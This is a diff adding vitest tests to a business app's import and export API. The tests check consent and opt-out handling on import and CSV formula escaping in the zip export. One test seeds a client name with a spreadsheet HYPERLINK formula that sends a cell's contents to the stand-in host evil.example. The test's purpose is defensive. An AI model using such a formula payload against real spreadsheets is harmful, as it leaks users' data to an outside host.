@@ -5,6 +5,7 @@
  * nothing written, neither in the business nor in the registry.
  */
 import { env, SELF } from 'cloudflare:test'
+import { strFromU8, unzipSync } from 'fflate'
 import { describe, expect, it } from 'vitest'
 import { Staff } from './helpers/browserless'
 import { api, BASE, createClient, createOrg, type TestOrg, unique } from './helpers/factories'
@@ -240,5 +241,83 @@ describe('POST /api/v1/import.json refuses a bad file with nothing written', () 
     }>()
     expect(original.first_name).toBe('Pat')
     expect((await exportOf(org))['clients']).toEqual(doc['clients'])
+  })
+})
+
+describe('what an import writes about reaching people', () => {
+  it("stores a card's phones and emails as the app writes them, so the file's own spelling cannot dodge an opt-out", async () => {
+    const { org } = await smallBusiness()
+    const doc = await exportOf(org)
+    const card = (doc['client_cards'] as Row[])[0]!
+    const e164 = String(card['primary_phone_e164'])
+    const spaced = `+1 ${e164.slice(2, 5)} ${e164.slice(5, 8)} ${e164.slice(8)}`
+    card['primary_phone_e164'] = spaced
+    card['phones'] = [spaced]
+    card['emails'] = [String(card['primary_email']).toUpperCase()]
+    doc['consents'] = [
+      {
+        point: spaced,
+        opt_in: false,
+        marketing_opt_in: false,
+        opted_in_at: null,
+        reason: 'STOP',
+        updated_at: '2030-01-01T00:00:00Z',
+      },
+    ]
+    const target = await createOrg()
+    expect((await api(target, 'POST', '/api/v1/import.json', doc)).status).toBe(201)
+    const [client] = (await clientsOf(target)) as Row[]
+    const shown = await (await api(target, 'GET', `/api/v1/clients/${client!['org_client_id']}`)).json<Row>()
+    expect(shown).toMatchObject({ primary_phone_e164: e164, consents: { sms_opt_in: false } })
+    const stored = await env.PEOPLE.prepare('select point, opt_in from point_consents where organization_id = ?')
+      .bind(target.organizationId)
+      .all<{ point: string; opt_in: number }>()
+    expect(stored.results).toEqual([{ point: e164, opt_in: 0 }])
+  })
+
+  it('never raises an opt-out the business already had', async () => {
+    const { org } = await smallBusiness()
+    const doc = await exportOf(org)
+    const phone = String((doc['client_cards'] as Row[])[0]!['primary_phone_e164'])
+    doc['consents'] = [
+      {
+        point: phone,
+        opt_in: true,
+        marketing_opt_in: true,
+        opted_in_at: '2020-01-01T00:00:00Z',
+        reason: 'signed form',
+        updated_at: '2030-01-01T00:00:00Z',
+      },
+    ]
+    const target = await createOrg()
+    await env.PEOPLE.prepare(
+      "insert into point_consents (organization_id, point, opt_in, marketing_opt_in, reason, updated_at) values (?, ?, 0, 0, 'STOP', '2026-01-01T00:00:00Z')",
+    )
+      .bind(target.organizationId, phone)
+      .run()
+    expect((await api(target, 'POST', '/api/v1/import.json', doc)).status).toBe(201)
+    const row = await env.PEOPLE.prepare(
+      'select opt_in, marketing_opt_in, reason from point_consents where organization_id = ? and point = ?',
+    )
+      .bind(target.organizationId, phone)
+      .first()
+    expect(row).toEqual({ opt_in: 0, marketing_opt_in: 0, reason: 'STOP' })
+  })
+})
+
+describe('the zip export', () => {
+  it('writes text a spreadsheet would run as a formula with a leading apostrophe', async () => {
+    const org = await createOrg()
+    await createClient(org, {
+      first_name: '=HYPERLINK("https://evil.example/?"&B2,"Open")',
+      last_name: '@SUM(1)',
+      email: `f-${unique()}@example.com`,
+    })
+    const res = await api(org, 'GET', '/api/v1/export.zip')
+    expect(res.status).toBe(200)
+    const cards = strFromU8(unzipSync(new Uint8Array(await res.arrayBuffer()))['client_cards.csv']!)
+    expect(cards).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""Open"")"`)
+    expect(cards).toContain(`'@SUM(1)`)
+    expect(cards).not.toMatch(/(^|,)=HYPERLINK/m)
   })
 })
